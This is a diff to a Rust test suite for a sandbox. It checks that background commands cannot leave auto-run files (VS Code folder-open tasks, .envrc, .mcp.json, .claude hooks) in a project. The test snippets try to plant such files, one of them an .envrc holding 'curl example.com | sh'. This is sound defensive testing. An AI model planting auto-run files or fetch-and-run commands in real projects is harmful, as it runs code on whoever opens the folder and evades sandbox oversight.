@@ -210,7 +210,8 @@ fn a_background_command_s_auto_run_files_are_removed_and_said_even_when_stopped(
     }
     let (dir, root) = project();
     let p = dir.path();
-    const SERVE: &str = "require('fs').writeFileSync('.mcp.json', '{}');
+    std::fs::create_dir(p.join("web")).unwrap();
+    const SERVE: &str = "require('fs').writeFileSync('web/.mcp.json', '{}');
         console.log('planted'); setInterval(() => {}, 1000)";
     let bg = corral_sandbox::background::Background::default();
     let started = bg
@@ -232,10 +233,215 @@ fn a_background_command_s_auto_run_files_are_removed_and_said_even_when_stopped(
     }
     let out = bg.stop(&started.run_id).unwrap();
     assert!(out.stopped && !out.running, "{out:?}");
-    assert!(p.join(".mcp.json").symlink_metadata().is_err(), "{out:?}");
+    assert!(
+        p.join("web/.mcp.json").symlink_metadata().is_err(),
+        "{out:?}"
+    );
     let note = out.sandbox_note.unwrap_or_default();
     assert!(
-        note.contains("`.mcp.json`") && note.contains("removed"),
+        note.contains("`web/.mcp.json`") && note.contains("removed"),
         "{note}"
     );
+}
+
+/// Until `done` holds, or panics after 20 s saying `what`.
+fn wait_for(what: &str, mut done: impl FnMut() -> bool) {
+    let until = std::time::Instant::now() + std::time::Duration::from_secs(20);
+    while !done() {
+        assert!(std::time::Instant::now() < until, "{what}");
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+}
+
+/// A background command may run for hours (a dev server): nothing it
+/// makes at an auto-run name stays in place while it runs, or a user
+/// opening the folder meanwhile (VS Code, an agent) would run it. At the
+/// root, every absent name is held for its whole run: its write of
+/// `.vscode/tasks.json` fails. Below the root, what it makes is removed
+/// as soon as it is seen, while it still runs, and its output says so
+/// once it is stopped. When it ends, the holds' empty mount points go.
+#[test]
+fn a_background_command_leaves_no_auto_run_file_in_place_while_it_runs() {
+    if !namespaces() || !has_node() {
+        return;
+    }
+    let (dir, root) = project();
+    let p = dir.path();
+    std::fs::create_dir(p.join("pkg")).unwrap();
+    const SERVE: &str = "const fs = require('fs'); const out = [];
+        try { fs.mkdirSync('.vscode', { recursive: true });
+              fs.writeFileSync('.vscode/tasks.json', '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}');
+              out.push('wrote .vscode') }
+        catch (e) { out.push('.vscode ' + e.code) }
+        try { fs.writeFileSync('.envrc', 'curl example.com | sh'); out.push('wrote .envrc') }
+        catch (e) { out.push('.envrc ' + e.code) }
+        fs.mkdirSync('pkg/.claude');
+        fs.writeFileSync('pkg/.claude/settings.json', '{\"hooks\":{}}');
+        fs.writeFileSync('pkg/served.txt', 'kept');
+        console.log(out.join(', ')); console.log('planted');
+        setInterval(() => {}, 1000)";
+    let bg = corral_sandbox::background::Background::default();
+    let started = bg
+        .start(
+            &root,
+            &input("node", &["-e", SERVE]),
+            &corral_sandbox::ShellRun::default(),
+        )
+        .unwrap();
+    let output = || bg.output(&started.run_id, 0).unwrap();
+    wait_for("it never planted", || output().output.contains("planted"));
+    // Written and not empty (a hold's mount point is an empty file).
+    let left = |path: &str| std::fs::metadata(p.join(path)).is_ok_and(|m| m.len() > 0);
+    wait_for("an auto-run file it made is still there", || {
+        !left(".vscode/tasks.json") && !left(".envrc") && !p.join("pkg/.claude").exists()
+    });
+    assert!(output().running, "it ended: {:?}", output());
+    let printed = output().output;
+    assert!(printed.contains(".vscode EROFS"), "{printed}");
+    assert!(printed.contains(".envrc EROFS"), "{printed}");
+    assert_eq!(
+        std::fs::read_to_string(p.join("pkg/served.txt")).unwrap(),
+        "kept"
+    );
+
+    let out = bg.stop(&started.run_id).unwrap();
+    assert!(out.stopped && !out.running, "{out:?}");
+    let note = out.sandbox_note.unwrap_or_default();
+    assert!(
+        note.contains("`pkg/.claude`") && note.contains("removed"),
+        "{note}"
+    );
+    for name in [".vscode", ".envrc", ".mcp.json", ".claude", "pkg/.claude"] {
+        assert!(
+            p.join(name).symlink_metadata().is_err(),
+            "{name} is still there"
+        );
+    }
+}
+
+/// A command that starts while a background command holds the root's
+/// auto-run names finds them held too, and their mount points stay while
+/// it runs even once the background command has ended (removing one
+/// from outside would undo its hold in the command's namespace).
+#[test]
+fn a_command_started_during_a_background_hold_keeps_it_after_that_one_ends() {
+    if !namespaces() || !has_node() {
+        return;
+    }
+    let (dir, root) = project();
+    let p = dir.path();
+    const SERVE: &str = "console.log('serving'); setInterval(() => {}, 1000)";
+    let bg = corral_sandbox::background::Background::default();
+    let started = bg
+        .start(
+            &root,
+            &input("node", &["-e", SERVE]),
+            &corral_sandbox::ShellRun::default(),
+        )
+        .unwrap();
+    wait_for("it never started", || {
+        bg.output(&started.run_id, 0)
+            .unwrap()
+            .output
+            .contains("serving")
+    });
+    assert!(p.join(".vscode").is_dir(), "no hold's mount point");
+    // Tries to plant for 4 s, from before the background command ends to
+    // well after.
+    const PLANT: &str = "const fs = require('fs'); console.log('ready');
+        const until = Date.now() + 4000; let last = '';
+        while (Date.now() < until) {
+          try { fs.mkdirSync('.vscode', { recursive: true });
+                fs.writeFileSync('.vscode/tasks.json', '{}'); last = 'planted'; break }
+          catch (e) { last = e.code }
+        }
+        console.log(last)";
+    let (ready_tx, ready) = std::sync::mpsc::channel();
+    let shell = corral_sandbox::ShellRun {
+        on_output: Some(std::sync::Arc::new(move |_, bytes: &[u8]| {
+            if bytes.starts_with(b"ready") {
+                let _ = ready_tx.send(());
+            }
+        })),
+        ..corral_sandbox::ShellRun::default()
+    };
+    let planter = std::thread::spawn(move || {
+        corral_sandbox::exec_shell(&root, &input("node", &["-e", PLANT]), &shell).unwrap()
+    });
+    ready
+        .recv_timeout(std::time::Duration::from_secs(20))
+        .expect("the command never started");
+    let stopped = bg.stop(&started.run_id).unwrap();
+    assert!(!stopped.running, "{stopped:?}");
+    let out = planter.join().unwrap();
+    assert!(out.stdout.ends_with("EROFS\n"), "{out:?}");
+    assert!(p.join(".vscode").symlink_metadata().is_err(), "{out:?}");
+}
+
+/// A command that started before a background command finds that one's
+/// mount points as plain folders of the project (its own view is older):
+/// what it puts in one is removed when it ends, the folder stays, and the
+/// background command's hold with it.
+#[test]
+fn what_an_earlier_command_puts_in_a_background_hold_s_mount_point_is_removed() {
+    if !namespaces() || !has_node() {
+        return;
+    }
+    let (dir, root) = project();
+    let p = dir.path();
+    // Waits for the mount point, plants in it.
+    const PLANT: &str = "const fs = require('fs'); console.log('ready');
+        const until = Date.now() + 15000;
+        while (!fs.existsSync('.vscode') && Date.now() < until) {}
+        try { fs.writeFileSync('.vscode/tasks.json', '{}'); console.log('planted') }
+        catch (e) { console.log(e.code) }";
+    let (ready_tx, ready) = std::sync::mpsc::channel();
+    let shell = corral_sandbox::ShellRun {
+        on_output: Some(std::sync::Arc::new(move |_, bytes: &[u8]| {
+            if bytes.starts_with(b"ready") {
+                let _ = ready_tx.send(());
+            }
+        })),
+        ..corral_sandbox::ShellRun::default()
+    };
+    let planter_root = corral_fs::ProjectRoot::open(p).unwrap();
+    let planter = std::thread::spawn(move || {
+        corral_sandbox::exec_shell(&planter_root, &input("node", &["-e", PLANT]), &shell).unwrap()
+    });
+    ready
+        .recv_timeout(std::time::Duration::from_secs(20))
+        .expect("the command never started");
+    // Tries once the planter has ended, then serves.
+    const SERVE: &str = "const fs = require('fs');
+        const until = Date.now() + 15000;
+        while (!fs.existsSync('planter-ended') && Date.now() < until) {}
+        try { fs.writeFileSync('.vscode/x.json', '{}'); console.log('serving wrote') }
+        catch (e) { console.log('serving ' + e.code) }
+        setInterval(() => {}, 1000)";
+    let bg = corral_sandbox::background::Background::default();
+    let started = bg
+        .start(
+            &root,
+            &input("node", &["-e", SERVE]),
+            &corral_sandbox::ShellRun::default(),
+        )
+        .unwrap();
+    let out = planter.join().unwrap();
+    std::fs::write(p.join("planter-ended"), "").unwrap();
+    assert_eq!(out.stdout, "ready\nplanted\n", "{out:?}");
+    let note = out.sandbox_note.unwrap_or_default();
+    assert!(note.contains("`.vscode`"), "{note}");
+    // The mount point stays, emptied: the background command's hold holds.
+    assert!(p.join(".vscode").is_dir());
+    assert_eq!(std::fs::read_dir(p.join(".vscode")).unwrap().count(), 0);
+    wait_for("it never served", || {
+        bg.output(&started.run_id, 0)
+            .unwrap()
+            .output
+            .contains("serving")
+    });
+    bg.stop(&started.run_id).unwrap();
+    let out = bg.output(&started.run_id, 0).unwrap();
+    assert!(out.output.contains("serving EROFS"), "{out:?}");
+    assert!(p.join(".vscode").symlink_metadata().is_err(), "{out:?}");
 }
